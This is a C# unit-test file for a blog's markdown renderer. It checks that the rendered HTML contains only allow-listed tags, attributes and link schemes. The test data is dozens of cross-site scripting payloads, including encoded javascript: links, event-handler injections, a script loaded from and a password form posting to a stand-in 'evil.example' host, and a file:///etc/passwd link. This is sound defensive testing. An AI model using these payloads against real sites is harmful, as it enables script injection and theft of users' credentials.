using System.Text.RegularExpressions;
using AngleSharp.Html.Parser;
using BlogBlazor.Posts;

namespace BlogBlazor.Tests.Posts;

/// <summary>Whatever somebody writes, the page it is shown on runs nothing of it, and nobody waits for it.</summary>
public sealed partial class MarkdownSafetyTests : IDisposable
{
    private static readonly HashSet<string> Harmless =
    [
        "a", "blockquote", "br", "code", "del", "div", "em", "h2", "h3", "h4", "h5", "h6", "hr", "img", "input", "ins", "li",
        "mark", "ol", "p", "pre", "s", "strong", "sub", "sup", "table", "tbody", "td", "th", "thead", "tr", "ul",
    ];

    private static readonly HashSet<string> HarmlessAttributes =
    [
        "alt", "aria-label", "checked", "class", "decoding", "disabled", "href", "loading", "rel", "src", "start", "tabindex", "title", "type",
    ];

    private readonly MarkdownRenderer _renderer = new();

    [GeneratedRegex("^(https?://|mailto:|//|[/#?]|[^:]*$)")]
    private static partial Regex HarmlessAddress { get; }

    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("a <script src=//evil.example></script> b")]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("<svg onload=alert(1)><path/></svg>")]
    [InlineData("<math><mtext></mtext></math>")]
    [InlineData("<style>body{display:none}</style>")]
    [InlineData("<p style=\"position:fixed\">x</p>")]
    [InlineData("<iframe srcdoc='<script>alert(1)</script>'></iframe>")]
    [InlineData("<form action=//evil.example><input name=password><button>go</button></form>")]
    [InlineData("<base href=//evil.example>")]
    [InlineData("<!-- --><b>x</b>")]
    [InlineData("<![CDATA[<script>alert(1)</script>]]>")]
    [InlineData("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">")]
    [InlineData("<a href=\"javascript:alert(1)\">x</a>")]
    [InlineData("| a |\n|---|\n| <script>alert(1)</script> |")]
    public void Raw_html_is_shown_as_the_text_it_is(string markdown) => ShouldBeHarmless(markdown).ShouldContain("&lt;");

    [Theory]
    [InlineData("[x](javascript:alert(1))")]
    [InlineData("[x](JaVaScRiPt:alert(1))")]
    [InlineData("[x](<javascript:alert(1)>)")]
    [InlineData("[x](< javascript:alert(1)>)")]
    [InlineData("[x](<\u0001javascript:alert(1)>)")]
    [InlineData("[x](<java\tscript:alert(1)>)")]
    [InlineData("[x](javascript&colon;alert(1))")]
    [InlineData("[x](javascript&#58;alert(1))")]
    [InlineData("[x](javascript&#x3A;alert(1))")]
    [InlineData("[x](&#106;avascript:alert(1))")]
    [InlineData("[x](java&#10;script:alert(1))")]
    [InlineData("[x](java&Tab;script:alert(1))")]
    [InlineData("[x](java&NewLine;script:alert(1))")]
    [InlineData("[x](javascript\\:alert(1))")]
    [InlineData("[x](vbscript:msgbox(1))")]
    [InlineData("[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)")]
    [InlineData("[x](DATA:text/html,<script>alert(1)</script>)")]
    [InlineData("[x](file:///etc/passwd)")]
    [InlineData("[x](blob:https://example.com/1)")]
    [InlineData("[x](view-source:javascript:alert(1))")]
    [InlineData("[x][y]\n\n[y]: javascript:alert(1)")]
    [InlineData("[x]\n\n[x]: <javascript:alert(1)> 'title'")]
    [InlineData("<javascript:alert(1)>")]
    [InlineData("<data:text/html,x>")]
    [InlineData("![x](javascript:alert(1))")]
    [InlineData("![x](data:image/svg+xml,<svg/onload=alert(1)>)")]
    [InlineData("[![x](javascript:alert(1))](javascript:alert(2))")]
    [InlineData("[x](https://example.com \"t\\\" onmouseover=\\\"alert(1)\")")]
    [InlineData("[x](https://example.com/\"onmouseover=\"alert(1))")]
    [InlineData("![x\" onerror=\"alert(1)](a.png)")]
    [InlineData("<https://example.com/\"onmouseover=\"alert(1)>")]
    [InlineData("https://example.com/\"onmouseover=\"alert(1)")]
    [InlineData("```\" onclick=\"alert(1)\ncode\n```")]
    [InlineData("```x\"><script>alert(1)</script>\ncode\n```")]
    [InlineData("# x {onclick=alert(1)}")]
    [InlineData("[x](/a){onclick=alert(1)}")]
    [InlineData("x {style=\"position:fixed\"}")]
    [InlineData("# \" onclick=\"alert(1)")]
    [InlineData("@lan\" onclick=\"alert(1)")]
    public void No_link_image_or_attribute_runs_anything(string markdown) => ShouldBeHarmless(markdown);

    [Theory]
    [InlineData("[")]
    [InlineData("![")]
    [InlineData("> ")]
    [InlineData("1. ")]
    public void What_is_nested_too_deep_to_be_meant_is_shown_as_it_was_typed(string part)
    {
        var markdown = string.Concat(Enumerable.Repeat(part, 500)) + "<script>alert(1)</script>";

        new HtmlParser().ParseDocument(ShouldBeHarmless(markdown)).QuerySelector("pre")!.TextContent.ShouldBe(markdown);
        Should.NotThrow(() => MarkdownRenderer.MentionsIn(markdown));
    }

    public void Dispose() => _renderer.Dispose();

    /// <summary>Reads the result as a browser does, and lets pass only what is known to be harmless.</summary>
    private string ShouldBeHarmless(string markdown)
    {
        var html = _renderer.Render(markdown).Value;
        var unexpected =
            from element in new HtmlParser().ParseDocument(html).Body!.QuerySelectorAll("*")
            from problem in element.Attributes
                .Where(a => !HarmlessAttributes.Contains(a.Name) || (a.Name is "href" or "src" && !HarmlessAddress.IsMatch(a.Value)))
                .Select(a => $"{a.Name}={a.Value}")
                .Prepend(Harmless.Contains(element.LocalName) ? null : element.LocalName)
            where problem is not null
            select problem;
        unexpected.ShouldBeEmpty(html);
        return html;
    }
}
